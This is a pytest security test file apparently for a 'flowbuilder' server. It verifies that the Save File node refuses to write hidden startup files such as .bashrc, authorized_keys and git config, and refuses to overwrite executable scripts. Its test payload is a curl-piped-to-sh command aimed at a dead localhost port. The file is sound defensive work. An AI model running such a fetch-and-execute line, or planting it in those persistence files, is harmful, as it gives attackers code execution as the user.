"""Nodes never write a file the shell, git or ssh will act on, even under a named root.

A user who names a folder such as their home (or a project with its ``.git``) as a root
lets nodes use their files — not plant a ``.bashrc`` line, an ``authorized_keys`` entry,
a git ``core.fsmonitor`` command, or new content in an executable script, each of which
runs later as the user. Hidden names (``.`` first) below a root and executable files
are refused to Save File (and every other writer of the file-access policy), against a
real ``flowbuilder serve``; a hidden folder the user names as a root itself stays usable.
"""

from __future__ import annotations

import os
import stat
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from test_sec_files import Api, _serve, assert_refused, graph_of

PAYLOAD = "curl -s http://127.0.0.1:9/x | sh\n"


@pytest.fixture(scope="module")
def user(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A stand-in for the user's home folder, with the files a shell and git act on."""
    home = tmp_path_factory.mktemp("sec-startup") / "user"
    (home / ".bashrc").parent.mkdir(parents=True)
    (home / ".bashrc").write_text("export EDITOR=vi\n")
    git = home / "project" / ".git"
    git.mkdir(parents=True)
    (git / "config").write_text("[core]\n\tbare = false\n")
    script = home / "bin" / "backup.sh"
    script.parent.mkdir()
    script.write_text("#!/bin/sh\nrsync -a ~/notes /mnt/backup\n")
    script.chmod(0o755)
    (home / ".local" / "share" / "notes").mkdir(parents=True)
    return home


@pytest.fixture(scope="module")
def api(tmp_path_factory: pytest.TempPathFactory, user: Path) -> Iterator[Api]:
    """A server whose user named their home folder, and a hidden folder in it, as roots."""
    roots = os.pathsep.join([str(user), str(user / ".local" / "share" / "notes")])
    yield from _serve(
        tmp_path_factory.mktemp("sec-startup-home") / "home", FLOWBUILDER_FILE_ROOTS=roots
    )


def save(api: Api, path: str) -> httpx.Response:
    graph = graph_of("core/save_file", "path", {"value": "text"}, path=path, overwrite=True)
    return api.run(graph, {"value": PAYLOAD})


@pytest.mark.parametrize(
    "rel",
    [
        ".bashrc",
        ".profile",
        ".ssh/authorized_keys",
        ".config/autostart/update.desktop",
        "project/.git/config",
        "project/.envrc",
    ],
)
def test_save_file_cannot_write_a_hidden_file_below_a_root(api: Api, user: Path, rel: str) -> None:
    target = user / rel
    before = target.read_bytes() if target.exists() else None
    error = assert_refused(save(api, str(target)), "path", "hidden")
    assert str(user) in error  # the roots are named
    assert (target.read_bytes() if target.exists() else None) == before


def test_save_file_cannot_replace_an_executable_file(api: Api, user: Path) -> None:
    script = user / "bin" / "backup.sh"
    before = script.read_bytes()
    assert_refused(save(api, str(script)), "path", "executable")
    assert script.read_bytes() == before


def test_ordinary_files_and_named_hidden_roots_are_still_written(api: Api, user: Path) -> None:
    for target in (user / "notes" / "today.txt", user / ".local" / "share" / "notes" / "a.txt"):
        r = save(api, str(target))
        assert r.status_code == 200, r.text
        assert target.read_text() == PAYLOAD
        assert not stat.S_IMODE(target.stat().st_mode) & 0o111
